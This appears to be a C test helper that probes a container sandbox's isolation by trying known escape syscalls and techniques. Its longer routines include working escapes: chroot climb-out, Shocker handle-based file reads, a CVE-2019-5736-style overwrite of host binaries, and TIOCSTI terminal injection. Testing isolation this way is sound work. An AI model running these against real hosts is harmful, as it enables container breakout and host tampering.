/* The known ways out of a container, as a hostile program would try them: see test_escapes.py.
 *
 * `attacks NAME [ARGUMENT…]` tries one of them, says "worked", or the kernel's refusal, such as "EPERM".
 * `attacks NAME NAME…` does so with several of CALLS, a line each; without words it lists those.
 *
 * The calls that could harm a machine are made with an argument that makes no sense (a wrong magic number, no file).  The kernel
 * looks at the caller's rights first: EPERM says that the door is locked, any other error that the caller stood inside.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define NONE ((void *)0)

static int opened(const char *path, int flags) { return open(path, flags | O_CLOEXEC); }

/* ---- single calls ------------------------------------------------------------------------------------------------- */

static long mount_tmpfs(void) { return mount("none", "/tmp", "tmpfs", 0, NONE); }
static long mount_proc(void) { return mount("proc", "/tmp", "proc", 0, NONE); }
static long mount_sysfs(void) { return mount("sysfs", "/tmp", "sysfs", 0, NONE); }
static long mount_over_a_mask(void) { return mount("none", "/proc", "tmpfs", 0, NONE); }
static long mount_bind(void) { return mount("/", "/tmp", NONE, MS_BIND, NONE); }
static long remount_writable(void) { return mount("none", "/proc", NONE, MS_REMOUNT | MS_BIND, NONE); }
static long make_shared(void) { return mount(NONE, "/", NONE, MS_SHARED | MS_REC, NONE); }
static long umount_proc(void) { return umount2("/proc", MNT_DETACH); }
static long pivot_root(void) { return chdir("/tmp") ? -1 : syscall(SYS_pivot_root, ".", "."); }
static long fsopen_(void) { return syscall(SYS_fsopen, "tmpfs", 0); }
static long fspick_(void) { return syscall(SYS_fspick, AT_FDCWD, "/", 0); }
static long fsconfig_(void) { return syscall(SYS_fsconfig, -1, 6, NONE, NONE, 0); }
static long fsmount_(void) { return syscall(SYS_fsmount, -1, 0, 0); }
static long open_tree_(void) { return syscall(SYS_open_tree, AT_FDCWD, "/", 1 | O_CLOEXEC); }
static long move_mount_(void) { return syscall(SYS_move_mount, -1, "", AT_FDCWD, "/tmp", 4); }
static long mount_setattr_(void) { return syscall(442, -1, "", 0x1000, NONE, 0); }

static long unshare_user(void) { return unshare(CLONE_NEWUSER); }
static long unshare_mount(void) { return unshare(CLONE_NEWNS); }
static long unshare_network(void) { return unshare(CLONE_NEWNET); }
static long unshare_cgroup(void) { return unshare(CLONE_NEWCGROUP); }
static long unshare_pid(void) { return unshare(CLONE_NEWPID); }
static long enter_namespace(void) { return setns(opened("/proc/self/ns/uts", O_RDONLY), CLONE_NEWUTS); }

static long clone_user(void) {
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NONE, 0);
    return pid;
}

static long clone3_user(void) {
    uint64_t arguments[8] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD};
    long pid = syscall(SYS_clone3, arguments, sizeof(arguments));
    if (pid == 0)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NONE, 0);
    return pid;
}

#ifdef __x86_64__ /* the same calls by the numbers of the ABI x32, which a filter may have forgotten */
static long unshare_by_x32(void) { return syscall(0x40000000 | SYS_unshare, CLONE_NEWUSER); }
static long iopl_(void) { return syscall(SYS_iopl, 4); }
static long ioperm_(void) { return syscall(SYS_ioperm, 70000, 1, 1); }
#endif

static long init_module_(void) { return syscall(SYS_init_module, NONE, 0, ""); }
static long finit_module_(void) { return syscall(SYS_finit_module, -1, "", 0); }
static long delete_module_(void) { return syscall(SYS_delete_module, "no-such-module", O_NONBLOCK); }
static long kexec_load_(void) { return syscall(SYS_kexec_load, 0, 1000, NONE, 0); }
static long kexec_file_load_(void) { return syscall(SYS_kexec_file_load, -1, -1, 0, NONE, 0xffff); }
static long reboot_(void) { return syscall(SYS_reboot, 0xdead, 0, 0, NONE); }
static long swapon_(void) { return syscall(SYS_swapon, "/no-such-file", 0); }
static long swapoff_(void) { return syscall(SYS_swapoff, "/no-such-file"); }
static long settimeofday_(void) { return syscall(SYS_settimeofday, NONE, NONE); }
static long clock_settime_(void) {
    struct timespec never = {0, -1};
    return syscall(SYS_clock_settime, CLOCK_REALTIME, &never);
}
static long adjtimex_(void) {
    struct timex never = {.modes = ADJ_TICK, .tick = 0};
    return adjtimex(&never);
}
static long acct_(void) { return syscall(SYS_acct, "/no-such-file"); }
static long quotactl_(void) { return syscall(SYS_quotactl, 0x800002 << 8, "/no-such-file", 0, NONE); }
static long read_kernel_log(void) { return syscall(SYS_syslog, 10, NONE, 0); }
static long sethostname_(void) { return sethostname("owned", 5); }
static long setdomainname_(void) { return setdomainname("owned", 5); }

static long bpf_(void) { return syscall(SYS_bpf, 9999, NONE, 0); }
static long perf_event_open_(void) { return syscall(SYS_perf_event_open, NONE, 0, -1, -1, 0); }
static long userfaultfd_(void) { return syscall(SYS_userfaultfd, O_CLOEXEC); }
static long io_uring_setup_(void) { return syscall(SYS_io_uring_setup, 1, NONE); }
static long fanotify_init_(void) { return syscall(SYS_fanotify_init, 0, 0); }
static long keyctl_(void) { return syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0); }
static long add_key_(void) { return syscall(SYS_add_key, "user", "attack", "x", 1, KEY_SPEC_PROCESS_KEYRING); }
static long request_key_(void) { return syscall(SYS_request_key, "user", "no-such-key", NONE, 0); }
static long open_by_handle_at_(void) { return syscall(SYS_open_by_handle_at, AT_FDCWD, NONE, 0); }
static long kcmp_(void) { return syscall(SYS_kcmp, getpid(), getpid(), 9, 0, 0); }
static long pidfd_getfd_(void) { return syscall(438, -1, 0, 0); }
static long move_pages_(void) { return syscall(SYS_move_pages, 0, 0, NONE, NONE, NONE, 0); }
static long personality_(void) { return syscall(SYS_personality, 0x0040000); }
static long socket_to_the_hypervisor(void) { return socket(40, SOCK_STREAM, 0); }

/* no filter stands before these: it is the capability that is missing */
static long be_more_important(void) { return setpriority(PRIO_PROCESS, 0, -20); }
static long be_real_time(void) {
    struct sched_param first = {1};
    return sched_setscheduler(0, SCHED_FIFO, &first);
}
static long open_more_files(void) {
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_max++;
    return setrlimit(RLIMIT_NOFILE, &limit);
}
static long trusted_attribute(void) {
    if (close(creat("/tmp/attribute", 0600)))
        return -1;
    return setxattr("/tmp/attribute", "trusted.overlay.opaque", "y", 1, 0);
}
static long link_down(void) {
    struct ifreq request = {.ifr_name = "lo"};
    return ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCSIFFLAGS, &request);
}
static long escape_the_oom_killer(void) {
    int fd = opened("/proc/self/oom_score_adj", O_WRONLY);
    return fd < 0 ? fd : write(fd, "-1000", 5);
}

#define CALL(name) {#name, name}
#define CALL_(name) {#name, name##_}
static const struct { const char *name; long (*call)(void); } CALLS[] = {
    CALL(mount_tmpfs), CALL(mount_proc), CALL(mount_sysfs), CALL(mount_over_a_mask), CALL(mount_bind), CALL(remount_writable),
    CALL(make_shared), CALL(umount_proc), CALL(pivot_root), CALL_(fsopen), CALL_(fspick), CALL_(fsconfig), CALL_(fsmount),
    CALL_(open_tree), CALL_(move_mount), CALL_(mount_setattr), CALL(unshare_user), CALL(unshare_mount),
    CALL(unshare_network), CALL(unshare_cgroup), CALL(unshare_pid), CALL(enter_namespace), CALL(clone_user), CALL(clone3_user),
#ifdef __x86_64__
    CALL(unshare_by_x32), CALL_(iopl), CALL_(ioperm),
#endif
    CALL_(init_module), CALL_(finit_module), CALL_(delete_module), CALL_(kexec_load), CALL_(kexec_file_load), CALL_(reboot),
    CALL_(swapon), CALL_(swapoff), CALL_(settimeofday), CALL_(clock_settime), CALL_(adjtimex), CALL_(acct), CALL_(quotactl),
    CALL(read_kernel_log), CALL_(sethostname), CALL_(setdomainname), CALL_(bpf), CALL_(perf_event_open), CALL_(userfaultfd),
    CALL_(io_uring_setup), CALL_(fanotify_init), CALL_(keyctl), CALL_(add_key), CALL_(request_key), CALL_(open_by_handle_at),
    CALL_(kcmp), CALL_(pidfd_getfd), CALL_(move_pages), CALL_(personality), CALL(socket_to_the_hypervisor),
    CALL(be_more_important), CALL(be_real_time), CALL(open_more_files), CALL(trusted_attribute), CALL(link_down),
    CALL(escape_the_oom_killer),
};

/* What a container's other walls stop: no filter and, by itself, no capability.  They are not in the list of CALLS. */
static long open_a_device(void) { /* the kernel's log, for writing; nothing is written */
    unlink("/dev/attack");
    if (mknod("/dev/attack", S_IFCHR | 0600, makedev(1, 11)))
        return -1;
    int fd = opened("/dev/attack", O_WRONLY), why = errno;
    unlink("/dev/attack");
    errno = why;
    return fd;
}
static long leave_a_program(void) {
    int fd = open("/bin/attack", O_WRONLY | O_CREAT | O_CLOEXEC, 0700);
    return fd < 0 ? fd : unlink("/bin/attack");
}
static long open_a_setting(void) { return opened("/proc/sys/kernel/domainname", O_WRONLY); } /* nothing is written */
static long count_interrupts(void) {
    char text[8];
    long length = read(opened("/proc/interrupts", O_RDONLY), text, sizeof(text));
    errno = ENODATA; /* a mask is an empty file */
    return length > 0 ? 0 : -1;
}
/* As somebody who is not root, execute this program, which belongs to root and has the set-uid bit; main tells by its end. */
static long become_root(void) {
    char path[4096];
    ssize_t length = readlink("/proc/self/exe", path, sizeof(path) - 1);
    int status;
    if (length < 0)
        return -1;
    path[length] = 0;
    if (fork() == 0) {
        if (setgid(65534) || setuid(65534))
            _exit(1);
        execl(path, path, "am_i_root", NONE);
        _exit(1);
    }
    wait(&status);
    errno = EPERM;
    return status ? -1 : 0;
}
static const struct { const char *name; long (*call)(void); } OTHERS[] = {
    CALL(open_a_device), CALL(leave_a_program), CALL(open_a_setting), CALL(count_interrupts), CALL(become_root),
};

/* Each in a process of its own: one that worked must not make the next one easier. */
static void try_call(const char *name) {
    long (*call)(void) = NONE;
    for (size_t number = 0; number < sizeof(CALLS) / sizeof(*CALLS); number++)
        if (!strcmp(CALLS[number].name, name))
            call = CALLS[number].call;
    for (size_t number = 0; number < sizeof(OTHERS) / sizeof(*OTHERS); number++)
        if (!strcmp(OTHERS[number].name, name))
            call = OTHERS[number].call;
    pid_t pid = fork();
    if (pid == 0) {
        long result = call ? call() : 0;
        printf("%s %s\n", name, !call ? "is no attack" : result < 0 ? strerrorname_np(errno) : "worked");
        fflush(stdout);
        _exit(0);
    }
    waitpid(pid, NONE, 0);
}

/* ---- longer ones -------------------------------------------------------------------------------------------------- */

/* chroot(2) changes no working directory: who stands outside of the new root climbs up to the real one.  Then read PATH. */
static void chroot_and_climb(char **argument) {
    char text[200] = "";
    if (chroot("/etc"))
        perror("chroot");
    for (int step = 0; step < 64; step++)
        if (chdir(".."))
            perror("..");
    if (chroot("."))
        perror("chroot");
    int fd = opened(argument[0], O_RDONLY);
    if (fd >= 0 && read(fd, text, sizeof(text) - 1) > 0)
        printf("worked: %s\n", text);
    else
        printf("%s\n", strerrorname_np(errno));
}

/* Shocker: with a file handle that was guessed, or tried out, open a file past all mounts.  MOUNT is any file of the
 * same file system, TYPE and HANDLE (in hexadecimal) name the wanted one. */
static void open_by_handle(char **argument) {
    struct { unsigned size; int type; unsigned char bytes[128]; } handle = {0, atoi(argument[1]), {0}};
    for (const char *digit = argument[2]; *digit; digit += 2)
        sscanf(digit, "%2hhx", &handle.bytes[handle.size++]);
    char text[200] = "";
    int fd = syscall(SYS_open_by_handle_at, opened(argument[0], O_RDONLY), &handle, O_RDONLY);
    if (fd >= 0 && read(fd, text, sizeof(text) - 1) > 0)
        printf("worked: %s\n", text);
    else
        printf("%s\n", strerrorname_np(errno));
}

/* Make a node of every device that there may be, and tell which of them can be opened: "c 1:3". */
static void open_devices(char **argument) {
    FILE *list = fopen("/proc/devices", "r");
    char line[100], kind = 'c';
    unsigned major;
    while (fgets(line, sizeof(line), list)) {
        if (!strncmp(line, "Block", 5))
            kind = 'b';
        if (sscanf(line, "%u", &major) != 1)
            continue;
        for (unsigned minor = 0; minor < 16; minor++) {
            if (mknod("/tmp/node", (kind == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev(major, minor))) {
                perror("mknod");
                return;
            }
            int fd = open("/tmp/node", (argument[0] ? O_RDONLY : O_RDWR) | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
            if (fd >= 0)
                printf("%c %u:%u\n", kind, major, minor);
            close(fd);
            unlink("/tmp/node");
        }
    }
}

static void walk(const char *directory) {
    DIR *entries = opendir(directory);
    struct dirent *entry;
    char path[4096];
    struct stat status;
    while (entries && (entry = readdir(entries))) {
        snprintf(path, sizeof(path), "%s/%s", directory, entry->d_name);
        if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..") || lstat(path, &status) || S_ISLNK(status.st_mode))
            continue;
        if (!strcmp(directory, "/proc") && entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
            continue; /* a process's own files */
        if (S_ISDIR(status.st_mode))
            walk(path);
        else if (S_ISREG(status.st_mode) && status.st_mode & 0222) { /* without a writer: root may open it, and no more */
            int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
            if (fd >= 0)
                printf("%s\n", path);
            close(fd);
        }
    }
    if (entries)
        closedir(entries);
}

/* Every file below DIRECTORY that can be opened for writing; nothing is written. */
static void writable_files(char **argument) { walk(argument[0]); }

static volatile sig_atomic_t enough = 0;
static void stop(int number) { enough = number; }

/* CVE-2019-5736: until SIGTERM wait for whoever enters, and hold the program that it was made of: once nobody executes it any more,
 * it can be opened for writing through the descriptor that we hold.  OWN is how paths of the container's own programs begin.
 * With VICTIM only programs with that in their path are held, and overwritten. */
static void lie_in_wait(char **argument) {
    int refused = 0, held = 0, fds[500];
    char path[64], target[4096];
    signal(SIGTERM, stop);
    printf("ready\n");
    fflush(stdout);
    while (!enough && held < 500)
        for (pid_t pid = 1; pid < 400; pid++) {
            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            if (pid == getpid() || kill(pid, 0))
                continue;
            ssize_t length = readlink(path, target, sizeof(target) - 1);
            refused += length < 0 && errno == EACCES;
            if (length < 0)
                continue;
            target[length] = 0;
            if (argument[1] ? !strstr(target, argument[1]) : !strncmp(target, argument[0], strlen(argument[0])))
                continue;
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            printf("saw %s %s\n", target, fd < 0 ? strerrorname_np(errno) : "held");
            fflush(stdout);
            if (fd >= 0)
                fds[held++] = fd;
            if (!argument[1] && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
                printf("traced %s\n", target);
        }
    sleep(1);
    for (int number = 0; number < held; number++) {
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[number]);
        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        printf("%s\n", fd < 0 ? strerrorname_np(errno) : "worked");
        if (fd >= 0 && argument[1] && write(fd, "owned", 5) != 5)
            perror("write");
        close(fd);
    }
    printf("refused %d\n", refused);
}

/* Hold the program of the process PID, as above, once. */
static void hold(char **argument) {
    char path[64];
    snprintf(path, sizeof(path), "/proc/%s/exe", argument[0]);
    printf("%s\n", opened(path, O_RDONLY) < 0 ? strerrorname_np(errno) : "worked");
}

/* For SECONDS exchange the two entries ONE and OTHER without a pause, so that who looks twice sees two things. */
static void exchange(char **argument) {
    time_t end = time(NONE) + atoi(argument[0]);
    printf("ready\n");
    fflush(stdout);
    while (time(NONE) < end)
        if (syscall(SYS_renameat2, AT_FDCWD, argument[1], AT_FDCWD, argument[2], 2)) {
            perror("exchange");
            return;
        }
}

/* Connect to the Unix socket with the abstract name NAME: these names belong to a network namespace, and to no file system. */
static void connect_abstract(char **argument) {
    struct sockaddr_un address = {AF_UNIX, ""};
    strcpy(address.sun_path + 1, argument[0]);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    int failed = connect(fd, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(argument[0]));
    printf("%s\n", failed ? strerrorname_np(errno) : "worked");
}

/* Type into the terminal DESCRIPTOR, as if its person had. */
static void type_into(char **argument) {
    int failed = 0, fd = atoi(argument[0]);
    ioctl(fd, TIOCSCTTY, 1); /* it must be ours: try to steal it */
    for (const char *key = "echo owned\n"; *key; key++)
        failed |= ioctl(fd, TIOCSTI, key);
    printf("%s\n", failed ? strerrorname_np(errno) : "worked");
}

/* Which processes can we send a signal to, up to PID? */
static void reach_processes(char **argument) {
    for (pid_t pid = 1; pid <= atoi(argument[0]); pid++)
        if (pid != getpid() && (kill(pid, 0) == 0 || errno != ESRCH))
            printf("%d\n", pid);
}

/* Read the key with the serial number ID, and look for it by its NAME. */
static void read_key(char **argument) {
    char text[100] = "";
    long id = argument[1] ? syscall(SYS_request_key, "user", argument[1], NONE, 0) : atol(argument[0]);
    long length = syscall(SYS_keyctl, KEYCTL_READ, id, text, sizeof(text) - 1);
    printf("%s %s\n", length < 0 ? strerrorname_np(errno) : "worked:", text);
}

/* By the name "reader": no attack, but a program that shows a file, for a flag of chapter 12. */
static int show(const char *path) {
    char text[200];
    ssize_t length = read(opened(path, O_RDONLY), text, sizeof(text));
    if (length < 0)
        perror(path);
    return length < 0 || write(1, text, length) != length;
}

int main(int count, char **word) {
    static const struct { const char *name; void (*attack)(char **); } LONGER[] = {
        CALL(chroot_and_climb), CALL(open_by_handle), CALL(open_devices), CALL(writable_files), CALL(lie_in_wait), CALL(hold),
        CALL(exchange), CALL(connect_abstract), CALL(type_into), CALL(reach_processes), CALL(read_key),
    };
    for (size_t number = 0; count > 1 && number < sizeof(LONGER) / sizeof(*LONGER); number++)
        if (!strcmp(LONGER[number].name, word[1])) {
            LONGER[number].attack(word + 2);
            return 0;
        }
    if (!strcmp(basename(word[0]), "reader"))
        return count == 2 ? show(word[1]) : !!puts("reader FILE: shows a file");
    if (count == 2 && !strcmp(word[1], "am_i_root"))
        return geteuid() != 0;
    for (int number = 1; number < count; number++)
        try_call(word[number]);
    for (size_t number = 0; count == 1 && number < sizeof(CALLS) / sizeof(*CALLS); number++)
        printf("%s\n", CALLS[number].name);
    return 0;
}
